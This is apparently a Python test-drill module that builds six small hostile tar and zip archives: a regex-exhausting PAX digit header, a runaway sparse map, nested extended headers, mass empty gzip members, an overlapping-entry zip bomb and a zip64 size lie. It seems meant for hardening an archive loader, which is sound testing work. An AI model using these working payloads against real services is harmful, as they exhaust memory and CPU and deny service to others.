"""Archives that cost whoever reads them far more than their size says, each of some kilobytes."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile

from load_tests.drills.archives import tarred, zipped

Files = dict[str, bytes]  # by name: those of a sound adapter


def _header(kind: bytes, size: int, name: str = "x") -> bytes:
    info = tarfile.TarInfo(name)
    info.type, info.size = kind, size
    return info.tobuf(tarfile.USTAR_FORMAT)


def _extended(kind: bytes, body: bytes) -> bytes:
    return _header(kind, len(body)) + body + bytes(-len(body) % 512)


def digits(files: Files, count: int = 1 << 17) -> bytes:
    """A PAX header that is one long number: tarfile's regular expression looks at it from each digit on."""
    return gzip.compress(_extended(tarfile.XHDTYPE, b"1" * count) + tarred(files, "w"))


def sparse(_: Files, blocks: int = 80_000) -> bytes:
    """A sparse file whose map goes on and on."""
    head = bytearray(_header(tarfile.GNUTYPE_SPARSE, 0))
    head[482] = 1  # the map is continued in the next block
    head[148:156] = b"        "
    head[148:156] = b"%06o\0 " % sum(head)
    more = (b"0" * 11 + b"\0") * 42
    return gzip.compress(bytes(head) + (more + b"\1" + bytes(7)) * blocks, 9)


def nested(_: Files, depth: int = 1_500) -> bytes:
    """Extended headers before extended headers: each is kept while the next one is read."""
    body = b"262144 comment=" + b"x" * (2**18 - 16) + b"\n"
    return gzip.compress(_extended(tarfile.XHDTYPE, body)) * depth


def empty_members(files: Files, count: int = 200_000) -> bytes:
    """A gzip file of nothing, very often."""
    member = gzip.compress(b"")
    return gzip.compress(tarred(files, "w")[:1024]) + member * count


def overlapping(_: Files, copies: int = 900) -> bytes:
    """A zip whose entries are all the same bytes of the file (Fifield 2019)."""
    raw = bytearray(zipped({"adapter_config.json": bytes(2**20)}))
    at = raw.rindex(b"PK\1\2")
    end = raw.rindex(b"PK\5\6")
    entry = bytes(raw[at:end])
    directory = b"".join(entry.replace(b"adapter_config.json", b"%019d" % i) for i in range(copies)) + entry
    tail = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, copies + 1, copies + 1, len(directory), at, 0)
    return bytes(raw[:at]) + directory + tail


def zip64_lie(files: Files) -> bytes:
    """A member that is said to be of 2^63 bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            with archive.open(zipfile.ZipInfo(name), "w", force_zip64=True) as member:
                member.write(data)
    raw = bytearray(buffer.getvalue())
    at = raw.rindex(b"PK\1\2")
    name_length, extra_length = struct.unpack("<2H", raw[at + 28 : at + 32])
    extra = struct.pack("<2HQQ", 1, 16, 2**63 - 1, 2**63 - 1)
    raw[at + 20 : at + 28] = b"\xff" * 8
    raw[at + 30 : at + 32] = struct.pack("<H", len(extra))
    start = at + 46 + name_length
    raw[start : start + extra_length] = extra
    end = raw.rindex(b"PK\5\6")
    directory = struct.unpack("<L", raw[end + 16 : end + 20])[0]
    raw[end + 12 : end + 16] = struct.pack("<L", end - directory)
    return bytes(raw)


BOMBS = {
    "digits.tar.gz": digits,
    "sparse.tar.gz": sparse,
    "nested.tar.gz": nested,
    "empty.tar.gz": empty_members,
    "overlapping.zip": overlapping,
    "zip64.zip": zip64_lie,
}
